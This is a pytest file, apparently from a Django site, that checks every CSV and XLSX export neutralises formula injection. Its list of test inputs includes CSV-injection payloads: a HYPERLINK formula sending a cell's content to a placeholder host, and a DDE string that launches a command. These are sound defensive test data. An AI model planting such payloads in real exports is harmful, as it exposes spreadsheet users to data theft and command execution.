"""Exported cells are never run as formulas: the helper, then every export of the site.

A text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading
`'` in a CSV, and as a string cell (never a formula) in an XLSX; numbers stay numbers.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from pilote.core.spreadsheet import FORMULA_STARTS, safe_cell, xlsx_row
from tests.accompaniment.factories import (
    DiagnosticFactory,
    InteractionFactory,
    NeedFactory,
    ProjectFactory,
    ReferralFactory,
    written_by,
)
from tests.aids.factories import AidSchemeFactory, CallWindowFactory
from tests.applications.factories import ApplicationFactory
from tests.contacts.factories import ContactFactory
from tests.factories import CompanyFactory, EstablishmentFactory, NoteFactory
from tests.prospecting.factories import TargetFactory, campaign_of

DANGEROUS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")',
    "+33 3 53 01 00 00",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# -- the helper ------------------------------------------------------------------------------


def test_every_formula_start_is_covered_by_the_examples():
    assert {value[0] for value in DANGEROUS} == set(FORMULA_STARTS)


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_csv_cell_starting_like_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Forges de l'Escaut", "", "1-2", "SUM(A1)", " =1+1", "'=déjà protégé"]
)
def test_a_csv_cell_of_plain_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [-5, 0, 12, Decimal("-1250.50"), -0.5, dt.date(2026, 1, 2),
     dt.datetime(2026, 1, 2, 8, 30, tzinfo=dt.UTC), None, True],
)  # fmt: skip
def test_numbers_dates_and_booleans_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_a_lazy_translation_is_neutralised_like_a_text():
    assert safe_cell(gettext_lazy("=1+1")) == "'=1+1"


def test_an_xlsx_row_keeps_formula_like_texts_as_text_and_numbers_as_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Feuille")
    values = [*DANGEROUS, "texte", -5, Decimal("-12.5"), -0.25, dt.date(2026, 1, 2)]
    sheet.append(xlsx_row(sheet, values))
    stream = io.BytesIO()
    workbook.save(stream)
    cells = next(load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows())
    for cell, value in zip(cells[: len(DANGEROUS)], DANGEROUS, strict=True):
        assert cell.data_type == "s"
        # Exactly, no quote added (XML reads a carriage return back as a line feed).
        assert cell.value == value.replace("\r", "\n")
        assert cell.quotePrefix
    assert cells[len(DANGEROUS)].value == "texte"
    numbers = cells[len(DANGEROUS) + 1 : len(DANGEROUS) + 4]
    assert [(c.data_type, c.value) for c in numbers] == [("n", -5), ("n", -12.5), ("n", -0.25)]
    assert cells[-1].is_date
    assert cells[-1].value.date() == dt.date(2026, 1, 2)


# -- every export of the site ----------------------------------------------------------------

NAME = DANGEROUS[0]  # the establishment's own name, in nearly every export
COMPANY = DANGEROUS[3]  # its company's name


@pytest.fixture
def dangerous(world):
    """Follow-up of agglo 1 (agent_e1) about an establishment named like a formula, each
    record holding another formula-like text."""
    e1 = world.epcis["e1"]
    site = EstablishmentFactory(
        epci=e1, own_name=NAME, company=CompanyFactory(name=COMPANY), naf_code="25.62A"
    )
    by = written_by(world, "agent_e1")
    NoteFactory(epci=e1, establishment=site, title="=1+1 et la suite", body="-2+3", **by)
    ContactFactory(main_establishment=site, last_name="-2+3", phone=DANGEROUS[1], **by)
    campaign = campaign_of(world, "e1", "agent_e1", name="@Campagne")
    TargetFactory(campaign=campaign, establishment=site, note="=1+1")
    InteractionFactory(establishment=site, summary="@SUM(A1)", **by)
    NeedFactory(establishment=site, description="=1+1", **by)
    ProjectFactory(establishment=site, title="+1+1", **by)
    DiagnosticFactory(establishment=site, operator="-1+1", **by)
    ReferralFactory(establishment=site, subject="\t=1+1", **by)
    scheme = AidSchemeFactory(
        title=NAME, promise="-2+3", geo_included=["REG-32"], naf_codes=["C"]
    )  # fmt: skip
    CallWindowFactory(scheme=scheme)
    ApplicationFactory(
        establishment=site, title="=HYPERLINK(1)", status="accepte",
        decided_on=dt.date(2026, 6, 15), amount_granted=Decimal("1000.00"), **by,
    )  # fmt: skip
    # A call for funds to e1 (the agreement's export): its party and payment named like formulas.
    from tests.agreement.factories import call_of, payment_of

    call = call_of(e1, world.territory_a)
    call.party.name = NAME
    call.party.save()
    payment_of(call, reference=COMPANY)
    # A territory project on the establishment, its description named like a formula.
    from pilote.territory_projects.services import project_create

    project_create(acting_user=world.users["agent_e1"], territory=world.territory_a, epci=e1,
                   title="=1+1 projet", summary=COMPANY, establishments=[site])  # fmt: skip
    return {"campaign": campaign, "scheme": scheme}


# URL name → (arguments, what the export must hold, neutralised: CSV) for every export.
EXPORTS = {
    "companies:export": ({"fmt": "csv"}, "'" + NAME),
    "notes:export": ({}, "'=1+1 et la suite"),
    "contacts:export": ({}, "'" + DANGEROUS[1]),
    "prospecting:export": ({"pk": "campaign"}, "'" + NAME),
    "accompaniment:interaction_export": ({}, "'@SUM(A1)"),
    "accompaniment:need_export": ({}, "'" + NAME),
    "accompaniment:project_export": ({}, "'+1+1"),
    "accompaniment:diagnostic_export": ({}, "'-1+1"),
    "accompaniment:referral_export": ({}, "'\t=1+1"),
    "aids:export": ({}, "'" + NAME),
}
XLSX_EXPORTS = {
    "companies:export": {"fmt": "xlsx"},
    "aids:detection_export": {"pk": "scheme"},
    "applications:export": {},
    "agreement:calls_export": {},
    "territory_projects:export": {},
    # The bilan of a period holding the application's decision and today's exchange.
    "indicators:bilan_xlsx": {"?": lambda: f"de=2026-01-01&a={timezone.localdate()}"},
}


def _url(name: str, kwargs: dict, objects: dict) -> str:
    kwargs = dict(kwargs)
    query = kwargs.pop("?", None)
    url = reverse(name, kwargs={k: objects[v].pk if v in objects else v for k, v in kwargs.items()})
    return f"{url}?{query()}" if query else url


def _downloads(resolver=None, namespace="") -> set[str]:
    """The URL names of every CSV or XLSX download of the site."""
    found = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            found |= _downloads(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            route = str(pattern.pattern)
            if route.endswith((".csv", ".xlsx", ".<str:fmt>")) or "export" in pattern.name:
                found.add(namespace + pattern.name)
    return found


def test_every_csv_or_xlsx_download_of_the_site_is_checked_below():
    # Not checked here: the personal-data exports (contacts, subscribers) are JSON; the
    # register of processings holds only the project's own text (tests/legal/test_register.py),
    # no value a user typed.
    not_spreadsheets_of_user_data = {
        "contacts:personal_data", "outreach:subscriber_export", "legal:register",
    }  # fmt: skip
    assert _downloads() - not_spreadsheets_of_user_data == set(EXPORTS) | set(XLSX_EXPORTS)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_csv_export_starts_a_cell_like_a_formula(name, world, dangerous, login):
    kwargs, expected = EXPORTS[name]
    response = login(world.users["agent_e1"]).get(_url(name, kwargs, dangerous))
    assert response.status_code == 200
    text = response.content.decode("utf-8").lstrip("\ufeff")
    delimiter = "," if name == "aids:export" else ";"  # the etalab schema is comma-separated
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    assert expected in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", sorted(XLSX_EXPORTS))
def test_no_xlsx_export_holds_a_formula(name, world, dangerous, login):
    response = login(world.users["agent_e1"]).get(_url(name, XLSX_EXPORTS[name], dangerous))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {NAME, COMPANY} <= texts  # exactly as written, as text
